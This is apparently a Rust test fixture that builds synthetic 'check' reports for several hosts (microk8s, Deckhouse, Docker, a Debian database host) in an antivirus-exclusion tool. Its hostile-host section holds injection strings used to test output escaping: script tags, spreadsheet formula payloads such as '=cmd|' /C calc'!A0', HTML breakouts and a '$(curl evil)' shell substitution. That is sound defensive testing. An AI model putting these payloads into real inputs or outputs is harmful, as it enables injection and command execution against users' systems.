//! Reports of the fixture fleet, as `check` gives them for the fixture hosts of the discovery
//! issue: a microk8s node as first installed (erts 12.3.1, snap 3410), the same after an upgrade
//! (erts 13.2.2, snap 6364), a Deckhouse worker, a Docker host with Bitnami containers and a Debian
//! database host with packaged PostgreSQL, Redis and RabbitMQ. Built from the real built-in
//! catalog, so ids, vendor texts, reasons and risks are the ones users see. Plus a hostile host
//! whose values try to break every output format.
#![allow(dead_code)]

use avexclude::model::*;

pub fn catalog() -> Catalog {
    avexclude::catalog::load_with_overlays(&[] as &[&std::path::Path]).expect("built-in catalog")
}

/// A report with every catalog entry absent; `set` then marks what the host has.
pub struct HostBuilder {
    pub report: Report,
}

pub struct M<'a> {
    pub value: &'a [u8],
    pub host_path: Option<&'a str>,
    pub container_path: Option<&'a str>,
    pub pid: Option<i32>,
    pub cmdline: Option<&'a [u8]>,
    pub container: Option<&'a str>,
    pub namespace: Option<&'a str>,
    pub sha256: Option<&'a str>,
    pub via: &'a str,
}

impl Default for M<'_> {
    fn default() -> Self {
        M {
            value: b"",
            host_path: None,
            container_path: None,
            pid: None,
            cmdline: None,
            container: None,
            namespace: None,
            sha256: None,
            via: "exe",
        }
    }
}

impl HostBuilder {
    pub fn new(cat: &Catalog, hostname: &str, os: &str, time: &str) -> Self {
        let entries = cat
            .entries
            .iter()
            // as `check` does on a host where no platform document applies
            .filter(|e| e.platform.is_none())
            .map(|e| EntryResult {
                id: e.id.clone(),
                kind: e.kind,
                canonical: e.canonical.clone(),
                component: e.component.clone(),
                status: if e.disabled.is_some() {
                    Status::Disabled
                } else {
                    Status::Absent
                },
                found: vec![],
                drift: None,
                matches: vec![],
                risk: e.risk,
                risk_why: e.risk_why.clone(),
                reason: e.reason.clone(),
                source: e.source.clone(),
                disabled: e.disabled.clone(),
            })
            .collect();
        HostBuilder {
            report: Report {
                schema: SCHEMA_VERSION,
                tool: ToolInfo::default(),
                generated_at: time.into(),
                host: HostFacts {
                    hostname: hostname.into(),
                    os: os.into(),
                    kernel: "6.1.0-27-amd64".into(),
                    machine_id: None,
                    scanned_as_root: true,
                },
                catalog: vec!["builtin:exclusions/elma365.yaml".into()],
                entries,
                unlisted: vec![],
                summary: Summary::default(),
                changes: vec![],
                warnings: vec![],
                scan_seconds: None,
            },
        }
    }

    pub fn set(mut self, id: &str, status: Status, drift: Option<Drift>, ms: &[M]) -> Self {
        let e = self
            .report
            .entries
            .iter_mut()
            .find(|e| e.id == id)
            .unwrap_or_else(|| panic!("no catalog entry {id}"));
        e.status = status;
        e.drift = drift;
        e.matches = ms
            .iter()
            .map(|m| Match {
                value: HostStr::new(m.value.to_vec()),
                host_path: m.host_path.map(HostStr::from),
                container_path: m.container_path.map(HostStr::from),
                pid: m.pid,
                cmdline: m.cmdline.map(|c| HostStr::new(c.to_vec())),
                container: m.container.map(String::from),
                namespace: m.namespace.map(String::from),
                sha256: m.sha256.map(String::from),
                via: m.via.parse().expect("a via this version writes"),
                ..Match::default()
            })
            .collect();
        let mut found: Vec<String> = e.matches.iter().map(|m| m.value.display()).collect();
        found.sort();
        found.dedup();
        e.found = found;
        self
    }

    pub fn unlisted(
        mut self,
        kind: &str,
        value: &[u8],
        component: &str,
        why: &str,
        pid: Option<i32>,
    ) -> Self {
        self.report.unlisted.push(Unlisted {
            kind: kind.parse().expect("an unlisted kind"),
            value: HostStr::new(value.to_vec()),
            component: component.into(),
            why: why.into(),
            evidence: Evidence {
                pid,
                file: pid.map(|p| format!("/proc/{p}/cmdline")),
                note: None,
            },
        });
        self
    }

    pub fn build(mut self) -> Report {
        let mut s = Summary::default();
        for e in &self.report.entries {
            match e.status {
                Status::Present => s.present += 1,
                Status::Drifted => s.drifted += 1,
                Status::Absent => s.absent += 1,
                Status::Disabled => s.disabled += 1,
            }
        }
        s.unlisted = self.report.unlisted.len();
        s.total = self.report.entries.len();
        self.report.summary = s;
        self.report
    }
}

pub fn drift(what: &str, kind: &str, catalog: &str, host: &str) -> Drift {
    Drift {
        summary: format!("{what} {catalog} -> {host}"),
        kind: kind.parse().expect("a drift kind"),
        catalog: catalog.into(),
        host: host.into(),
        items: vec![DriftItem {
            kind: kind.parse().expect("a drift kind"),
            what: what.into(),
            catalog: catalog.into(),
            host: host.into(),
        }],
    }
}

const MK8S_SNAP: &str =
    "/var/snap/microk8s/common/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots";
pub const SHA_BEAM_12: &str = "5f2b8c3a9d0e4f1a6b7c8d9e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c";
pub const SHA_BEAM_13: &str = "a1c9e0f7d3b2c4e5f60718293a4b5c6d7e8f9012a3b4c5d6e7f8091a2b3c4d5e";
pub const SHA_PG: &str = "0d4c6f0e9b1a2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f607182930a4b";

fn port(n: u16, pid: i32, cmd: &'static [u8]) -> M<'static> {
    let v: &'static str = Box::leak(format!("{n}/tcp").into_boxed_str());
    M {
        value: v.as_bytes(),
        pid: Some(pid),
        cmdline: Some(cmd),
        via: "listening on 0.0.0.0 (IPv4)",
        ..M::default()
    }
}

/// microk8s single node as installed: matches the vendor's list (erts 12.3.1, snap 3410).
fn microk8s(cat: &Catalog, name: &str, upgraded: bool) -> Report {
    let (erts, rev, snap_n, sha_beam) = if upgraded {
        ("13.2.2", "6364", 88, SHA_BEAM_13)
    } else {
        ("12.3.1", "3410", 41, SHA_BEAM_12)
    };
    let beam_in = format!("/opt/bitnami/erlang/lib/erlang/erts-{erts}/bin/beam.smp");
    let beam_host = format!("{MK8S_SNAP}/{snap_n}/fs{beam_in}");
    let epmd_in = format!("/opt/bitnami/erlang/lib/erlang/erts-{erts}/bin/epmd");
    let kubelite = format!("/snap/microk8s/{rev}/kubelite");
    let containerd = format!("/snap/microk8s/{rev}/bin/containerd");
    let shim = format!("/snap/microk8s/{rev}/bin/containerd-shim-runc-v1");
    let pg_host = format!("{MK8S_SNAP}/23/fs/opt/bitnami/postgresql/bin/postgres");
    let leak = |s: String| -> &'static str { Box::leak(s.into_boxed_str()) };
    let (beam_in, beam_host, epmd_in) = (leak(beam_in), leak(beam_host), leak(epmd_in));
    let (kubelite, containerd, shim, pg_host) =
        (leak(kubelite), leak(containerd), leak(shim), leak(pg_host));
    let ver = |what: &str, kind: &str, a: &str, b: &str| -> (Status, Option<Drift>) {
        if upgraded {
            (Status::Drifted, Some(drift(what, kind, a, b)))
        } else {
            (Status::Present, None)
        }
    };
    let (s_beam, d_beam) = ver("erts", "version", "12.3.1", erts);
    let (s_epmd, d_epmd) = ver("erts", "version", "12.3.1", erts);
    let (s_k, d_k) = ver("revision", "revision", "3410", rev);
    let (s_c, d_c) = ver("revision", "revision", "3410", rev);
    let (s_s, d_s) = ver("revision", "revision", "3410", rev);
    let time = if upgraded {
        "2026-11-24T03:00:00Z"
    } else {
        "2026-11-24T02:00:00Z"
    };
    HostBuilder::new(cat, name, "Ubuntu 22.04.5 LTS", time)
        .set("db-beam-smp-bitnami", s_beam, d_beam, &[M {
            value: beam_in.as_bytes(),
            host_path: Some(beam_host),
            container_path: Some(beam_in),
            pid: Some(if upgraded { 48211 } else { 4211 }),
            cmdline: Some(b"/opt/bitnami/erlang/lib/erlang/erts-x/bin/beam.smp -W w -MBas ageffcbf -- -root /opt/bitnami/erlang/lib/erlang -progname erl -- -noshell -s rabbit boot"),
            container: Some("rabbitmq-0/rabbitmq"),
            namespace: Some("elma365-dbs"),
            sha256: Some(sha_beam),
            via: "exe",
        }])
        .set("proc-epmd-bitnami", s_epmd, d_epmd, &[M {
            value: epmd_in.as_bytes(),
            container_path: Some(epmd_in),
            pid: Some(4190),
            cmdline: Some(b"/opt/bitnami/erlang/lib/erlang/erts-x/bin/epmd -daemon"),
            container: Some("rabbitmq-0/rabbitmq"),
            namespace: Some("elma365-dbs"),
            via: "exe",
            ..M::default()
        }])
        .set("db-postgres-bitnami", Status::Present, None, &[M {
            value: b"/opt/bitnami/postgresql/bin/postgres",
            host_path: Some(pg_host),
            container_path: Some("/opt/bitnami/postgresql/bin/postgres"),
            pid: Some(3120),
            cmdline: Some(b"/opt/bitnami/postgresql/bin/postgres -D /bitnami/postgresql/data --config-file=/opt/bitnami/postgresql/conf/postgresql.conf"),
            container: Some("postgres-postgresql-0/postgresql"),
            namespace: Some("elma365-dbs"),
            sha256: Some(SHA_PG),
            via: "exe",
        }])
        .set("proc-microk8s-kubelite", s_k, d_k, &[M { value: kubelite.as_bytes(), pid: Some(1402), cmdline: Some(b"/snap/microk8s/current/kubelite --scheduler-args-file=..."), via: "exe", ..M::default() }])
        .set("proc-microk8s-containerd", s_c, d_c, &[M { value: containerd.as_bytes(), pid: Some(1377), via: "exe", ..M::default() }])
        .set("proc-microk8s-containerd-shim", s_s, d_s, &[
            M { value: shim.as_bytes(), pid: Some(2801), via: "exe", ..M::default() },
        ])
        .set("proc-bin-sh", Status::Drifted, Some(drift("path", "location", "/bin/sh", "/bin/busybox")), &[M {
            value: b"/bin/busybox",
            container_path: Some("/bin/sh"),
            pid: Some(5120),
            cmdline: Some(b"/bin/sh -c /opt/elma365/entrypoint.sh"),
            container: Some("main-7d9c/main"),
            namespace: Some("elma365"),
            via: "argv0",
            ..M::default()
        }])
        .set("proc-coredns", Status::Present, None, &[M { value: b"/coredns", pid: Some(2950), container: Some("coredns-864597b5fd-x2x4k/coredns"), namespace: Some("kube-system"), ..M::default() }])
        .set("proc-hostpath-provisioner", Status::Present, None, &[M { value: b"/hostpath-provisioner", pid: Some(2990), namespace: Some("kube-system"), ..M::default() }])
        .set("proc-nginx-worker", Status::Present, None, &[
            M { value: b"nginx: worker process", pid: Some(6101), via: "title", namespace: Some("ingress"), ..M::default() },
            M { value: b"nginx: worker process", pid: Some(6102), via: "title", namespace: Some("ingress"), ..M::default() },
        ])
        .set("dir-microk8s-containerd-snapshots", Status::Present, None, &[M { value: b"/var/snap/microk8s/common/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/", via: "path exists", ..M::default() }])
        .set("port-5432-tcp", Status::Present, None, &[port(5432, 3120, b"/opt/bitnami/postgresql/bin/postgres -D /bitnami/postgresql/data")])
        .set("port-5672-tcp", Status::Present, None, &[port(5672, 4211, b"beam.smp")])
        .set("fw-master-to-node-10250-tcp", Status::Present, None, &[port(10250, 1402, b"/snap/microk8s/current/kubelite")])
        .build()
}

pub fn microk8s_seed(cat: &Catalog) -> Report {
    microk8s(cat, "elma-mk8s-01", false)
}

pub fn microk8s_upgraded(cat: &Catalog) -> Report {
    microk8s(cat, "elma-mk8s-02", true)
}

pub fn deckhouse_worker(cat: &Catalog) -> Report {
    HostBuilder::new(
        cat,
        "dkp-worker-01",
        "Debian GNU/Linux 12 (bookworm)",
        "2026-11-24T02:10:00Z",
    )
    .set(
        "dir-containerd-snapshots",
        Status::Present,
        None,
        &[M {
            value: b"/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/",
            via: "path exists",
            ..M::default()
        }],
    )
    .set(
        "proc-nginx-ingress-controller",
        Status::Present,
        None,
        &[M {
            value: b"/nginx-ingress-controller",
            pid: Some(7001),
            container: Some("controller-nginx-abc12/controller"),
            namespace: Some("d8-ingress-nginx"),
            ..M::default()
        }],
    )
    .set(
        "proc-dumb-init",
        Status::Present,
        None,
        &[M {
            value: b"/usr/bin/dumb-init",
            pid: Some(6990),
            namespace: Some("d8-ingress-nginx"),
            ..M::default()
        }],
    )
    .set("proc-calico-node", Status::Absent, None, &[])
    .set(
        "proc-bin-sh",
        Status::Drifted,
        Some(drift("path", "location", "/bin/sh", "/usr/bin/dash")),
        &[M {
            value: b"/usr/bin/dash",
            container_path: Some("/bin/sh"),
            pid: Some(8120),
            cmdline: Some(b"/bin/sh /entrypoint.sh"),
            namespace: Some("elma365"),
            via: "argv0",
            ..M::default()
        }],
    )
    .set(
        "proc-nginx-worker",
        Status::Present,
        None,
        &[M {
            value: b"nginx: worker process",
            pid: Some(7102),
            via: "title",
            ..M::default()
        }],
    )
    .set(
        "fw-master-to-node-10250-tcp",
        Status::Present,
        None,
        &[port(10250, 901, b"/usr/local/bin/kubelet")],
    )
    .unlisted(
        "storage-root",
        b"/var/lib/kubelet/pods/",
        "kubernetes",
        "container storage root no entry covers",
        None,
    )
    .build()
}

pub fn docker_host(cat: &Catalog) -> Report {
    HostBuilder::new(
        cat,
        "elma-docker-01",
        "Debian GNU/Linux 12 (bookworm)",
        "2026-11-24T02:20:00Z",
    )
    .set(
        "dir-docker-overlay2",
        Status::Present,
        None,
        &[M {
            value: b"/var/lib/docker/overlay2/",
            via: "path exists",
            ..M::default()
        }],
    )
    .set(
        "db-redis-server-bitnami",
        Status::Present,
        None,
        &[M {
            value: b"/opt/bitnami/redis/bin/redis-server",
            host_path: Some(
                "/var/lib/docker/overlay2/9f1c0e/diff/opt/bitnami/redis/bin/redis-server",
            ),
            container_path: Some("/opt/bitnami/redis/bin/redis-server"),
            pid: Some(2210),
            cmdline: Some(b"/opt/bitnami/redis/bin/redis-server *:6379"),
            container: Some("3f9a1c2b7d4e"),
            ..M::default()
        }],
    )
    .set(
        "db-redis-server-name",
        Status::Present,
        None,
        &[M {
            value: b"/opt/bitnami/redis/bin/redis-server",
            pid: Some(2210),
            via: "name",
            container: Some("3f9a1c2b7d4e"),
            ..M::default()
        }],
    )
    .set(
        "db-mongod-bitnami",
        Status::Present,
        None,
        &[M {
            value: b"/opt/bitnami/mongodb/bin/mongod",
            host_path: Some("/var/lib/docker/overlay2/77ab01/diff/opt/bitnami/mongodb/bin/mongod"),
            pid: Some(2300),
            cmdline: Some(
                b"/opt/bitnami/mongodb/bin/mongod --config=/opt/bitnami/mongodb/conf/mongodb.conf",
            ),
            container: Some("a0b1c2d3e4f5"),
            ..M::default()
        }],
    )
    .set(
        "port-6379-tcp",
        Status::Present,
        None,
        &[port(6379, 2210, b"redis-server *:6379")],
    )
    .build()
}

pub fn db_host(cat: &Catalog) -> Report {
    HostBuilder::new(cat, "elma-db-01", "Debian GNU/Linux 12 (bookworm)", "2026-11-24T02:30:00Z")
        .set("db-postgres-bitnami", Status::Drifted, Some(drift("path", "location", "/opt/bitnami/postgresql/bin/postgres", "/usr/lib/postgresql/15/bin/postgres")), &[M { value: b"/usr/lib/postgresql/15/bin/postgres", pid: Some(801), cmdline: Some(b"/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf"), sha256: Some("9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d"), ..M::default() }])
        .set("db-redis-server-name", Status::Present, None, &[M { value: b"/usr/bin/redis-check-rdb", pid: Some(760), cmdline: Some(b"/usr/bin/redis-server 127.0.0.1:6379"), via: "name", ..M::default() }])
        .set("db-beam-smp-bitnami", Status::Drifted, Some(drift("erts", "version", "12.3.1", "13.1.5")), &[M { value: b"/usr/lib/erlang/erts-13.1.5/bin/beam.smp", pid: Some(900), cmdline: Some(b"/usr/lib/erlang/erts-13.1.5/bin/beam.smp -W w -- -root /usr/lib/erlang -progname erl"), ..M::default() }])
        .set("port-5432-tcp", Status::Present, None, &[port(5432, 801, b"/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main")])
        .set("port-8008-tcp", Status::Present, None, &[port(8008, 700, b"/usr/bin/python3 /usr/bin/patroni /etc/patroni/config.yml")])
        .unlisted("data-path", b"/var/lib/postgresql/15/main", "postgresql", "PostgreSQL data directory (-D on the command line) that no entry names", Some(801))
        .build()
}

/// The fleet in the order an operator would list it.
pub fn fleet() -> (Catalog, Vec<Report>) {
    let cat = catalog();
    let reports = vec![
        microk8s_seed(&cat),
        microk8s_upgraded(&cat),
        deckhouse_worker(&cat),
        docker_host(&cat),
        db_host(&cat),
    ];
    (cat, reports)
}

/// A host whose values try to break every format.
pub const HOSTILE_VALUES: &[&[u8]] = &[
    b"/opt/evil/<script>alert(1)</script>",
    b"/opt/evil/\"quoted\" 'single'",
    b"/opt/evil/line\nbreak\r\nrow",
    b"/opt/evil/pipe|in|path",
    b"=cmd|' /C calc'!A0",
    b"+SUM(1,2)",
    b"-2+3",
    b"@SUM(A1)",
    b"\t=1+1",
    b"\r=1+1",
    b"/opt/evil/\xff\xfe-not-utf8",
    b"/opt/evil/</td></tr><tr><td>injected",
    b"/opt/evil/`backtick` *star* _under_ [link](http://evil.example/x)",
];

pub fn hostile(cat: &Catalog) -> Report {
    let ms: Vec<M> = HOSTILE_VALUES
        .iter()
        .enumerate()
        .map(|(i, v)| M {
            value: v,
            pid: Some(6660 + i as i32),
            cmdline: Some(b"/bin/sh -c '$(curl evil)'\n<img src=x onerror=alert(2)>"),
            container: Some("<b>c</b>"),
            namespace: Some("ns|\"x\""),
            via: "exe",
            ..M::default()
        })
        .collect();
    HostBuilder::new(
        cat,
        "evil<host>|\"1\"",
        "Evil OS\n<script>",
        "2026-11-24T04:00:00Z",
    )
    .set("dir-opt-elma365", Status::Present, None, &ms)
    .unlisted(
        "process",
        b"=HYPERLINK(\"http://evil.example\")\n|x|",
        "elma365",
        "<script>why</script>\r\n",
        Some(1),
    )
    .build()
}

/// The fleet's reports written into `dir`, half JSON and half YAML, as `check --format json|yaml`
/// writes them: the inputs of the export command-line tests.
pub fn write_reports(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let (_, reports) = fleet();
    reports
        .iter()
        .enumerate()
        .map(|(i, r)| {
            if i % 2 == 0 {
                let p = dir.join(format!("{}.json", r.host.hostname));
                std::fs::write(&p, serde_json::to_vec_pretty(r).unwrap()).unwrap();
                p
            } else {
                let p = dir.join(format!("{}.yaml", r.host.hostname));
                std::fs::write(&p, avexclude::yaml::to_string(r).unwrap()).unwrap();
                p
            }
        })
        .collect()
}
